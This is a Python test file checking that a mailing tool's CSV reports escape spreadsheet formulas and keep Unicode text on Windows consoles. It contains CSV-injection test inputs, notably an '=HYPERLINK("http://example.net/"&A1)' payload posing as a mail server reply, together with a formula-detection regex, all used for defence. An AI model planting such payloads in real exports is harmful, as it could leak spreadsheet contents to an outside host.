"""What programs and spreadsheets are given: UTF-8 on every console, and no cell a formula."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reportgen.mailings.ledger.handovers import Entry, Handover, State
from reportgen.mailings.ledger.ledger import LEDGER, open_ledger
from reportgen.mailings.proof import write_proof
from support.mail_project import ANNA, BERT, CLEO, MAILING, PEOPLE, SETTINGS, make_mailing, run_well
from support.mail_server import MailServer
from support.project import fill_folder

#: What servers and people may write that a spreadsheet could take for a formula.
ODD = (
    *("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", ";", ",", "\t", "|"),
    *("\n", "\r\n", "\r", '"', '""', "'", " ", "\u00a0", "\u2028", "\x85", "\0", "1+1", "x", "ж"),
    '=HYPERLINK("http://example.net/"&A1)',
)


def entry(reply: str, address: str | None = ANNA, reason: str = "") -> Entry:
    digest = "0" * 64
    when = "2026-11-22T12:00:00Z"
    return Entry("neu", "ab", address, reason, "<1@x>", digest, State.SENT, when, reply)


def read(data: bytes, delimiter: str = ";") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    return bool(re.match(r'[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]', cell))


def assert_harmless(data: bytes) -> None:
    """Whatever a spreadsheet takes for the separator, with or without quotes, has no formula."""
    text = data.decode("utf-8-sig")
    for delimiter in ";,\t|":
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        assert not any(is_formula(cell) for row in rows for cell in row)
    assert not any(is_formula(cell) for cell in re.split(r"[;,\t|\r\n\u2028\u2029\x85]", text))


# --- The proof -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("reply", "cell"),
    [
        ("250 OK", "250 OK"),
        ("=1+1", "'=1+1"),
        ("250 Ok;=1+1;x", "250 Ok;'=1+1;x"),
        ("250 Ok, -1", "250 Ok, '-1"),
        ("250 Ok;\t@SUM(A1)", "250 Ok; '@SUM(A1)"),
        ("\t=1", " '=1"),
        ("\r\n+1", "  '+1"),
        ('250 Ok,"=1"', '250 Ok,"\'=1"'),
        ("250 Ok;\uff1d1", "250 Ok;'\uff1d1"),
        ("250 2.0.0 a=b -- c@example.org", "250 2.0.0 a=b -- c@example.org"),
        ("250 Принято", "250 Принято"),
    ],
)
def test_nothing_that_a_server_says_is_a_formula(reply: str, cell: str) -> None:
    data = write_proof([entry(reply)])
    assert [row["reply"] for row in read(data)] == [cell]
    assert_harmless(data)


@given(*(st.lists(st.sampled_from(ODD) | st.text(max_size=5), max_size=8).map("".join),) * 3)
def test_no_text_of_a_proof_is_a_formula(reply: str, address: str, reason: str) -> None:
    data = write_proof([entry(reply, address, reason)])
    assert_harmless(data)
    assert len(read(data)) == 1
    assert "\n" not in "".join(read(data)[0].values())


def test_a_proof_opens_by_a_double_click_in_excel_of_german_and_french() -> None:
    """That is a byte order mark, semicolons between, and quotes around every cell."""
    data = write_proof([entry("250 Ähre", None)])
    head, row, end = data.decode("utf-8").split("\n")
    assert head.startswith('\ufeff"when";"state";"address"') and end == ""
    assert row.split(";")[1:3] == ['"sent"', '""'] and row.endswith('"250 Ähre";""')


# --- On a console that is not of UTF-8 -----------------------------------------------------------


def run_on(encoding: str, folder: Path, *arguments: str) -> subprocess.CompletedProcess[bytes]:
    """Run the program as Windows does where its output goes into a file."""
    return subprocess.run(
        [sys.executable, "-m", "reportgen", "-C", str(folder), *arguments],
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"},
        check=False,
    )


@pytest.mark.parametrize("encoding", ["cp1252", "cp850", "ascii"])
def test_the_proof_keeps_the_words_of_every_server(encoding: str, tmp_path: Path) -> None:
    reply = "250 2.0.0 Принято، تم ✓"
    fill_folder(tmp_path, {"profiles/mailings/neu.yaml": MAILING}, SETTINGS)
    with open_ledger(tmp_path / LEDGER) as ledger:
        handover = Handover("neu", "", ANNA, "<1@example.org>", "0")
        ledger.hand(handover)
        ledger.confirm(handover, reply)
    run = run_on(encoding, tmp_path, "mail", "status", "neu", "--csv")
    assert run.returncode == 0, run.stderr
    assert [row["reply"] for row in read(run.stdout)] == [reply]


@pytest.mark.parametrize("encoding", ["cp1252", "ascii"])
def test_json_is_utf_8_on_every_console(encoding: str, tmp_path: Path) -> None:
    title = "Мост für Łódź جسر 桥"
    good = f"title: {{de: {title}}}\ncity: Trier\ntopics: [work]\ndescription: {{de: x}}\n"
    files = {"profiles/a.yaml": good, "profiles/b.yaml": f"{good}нет: x\n"}
    fill_folder(tmp_path, files, SETTINGS)
    listed = run_on(encoding, tmp_path, "list", "--format", "json")
    found = run_on(encoding, tmp_path, "check", "--format", "json")
    schema = run_on(encoding, tmp_path, "schema", "factsheet")
    noted = run_on(encoding, tmp_path, "check", "--format", "github").stdout.decode()
    [row] = json.loads(listed.stdout.decode())
    assert row["title"] == title
    problems = json.loads(found.stdout.decode())
    assert any("нет" in each["message"] for each in problems), problems
    assert "нет" in noted
    assert "für" in schema.stdout.decode() and json.loads(schema.stdout.decode())


@pytest.mark.parametrize("encoding", ["cp1252", "ascii"])
def test_what_people_read_never_fails_on_a_poor_console(encoding: str, tmp_path: Path) -> None:
    title = "Мост für Łódź"
    profile = f"title: {{de: {title}}}\ncity: Trier\ntopics: [work]\ntopic: нет\n"
    fill_folder(tmp_path, {"profiles/a.yaml": profile}, SETTINGS)
    for arguments, code in [
        (("list",), 1),
        (("check",), 1),
        (("--help",), 0),
        (("mail", "--help"), 0),
        (("bild",), 2),
        (("check", "–"), 2),
    ]:
        run = run_on(encoding, tmp_path, *arguments)
        assert run.returncode == code, (arguments, run.stdout, run.stderr)
        assert b"Traceback" not in run.stderr and b"error in the program" not in run.stderr
        assert run.stdout or run.stderr


# --- A server that writes for spreadsheets -------------------------------------------------------


def test_a_server_chooses_its_words_in_vain(tmp_path: Path) -> None:
    with MailServer().running() as server:
        smtp = f"{{host: 127.0.0.1, port: {server.port}, security: none, per_minute: 9999}}"
        make_mailing(tmp_path, settings=f"{SETTINGS}mail:\n  smtp: {smtp}\n")
        trick = '250 2.0.0 Ok;=HYPERLINK("http://example.net/?"&A1);x'
        for each in PEOPLE:
            server.end[each] = ["take", trick]
        run_well(tmp_path, "mail", "plan", "neu")
        run_well(tmp_path, "mail", "send", "neu", "--yes", "3")
    data = run_well(tmp_path, "mail", "status", "neu", "--csv").encode()
    assert {row["address"] for row in read(data)} == {ANNA, BERT, CLEO}
    assert_harmless(data)
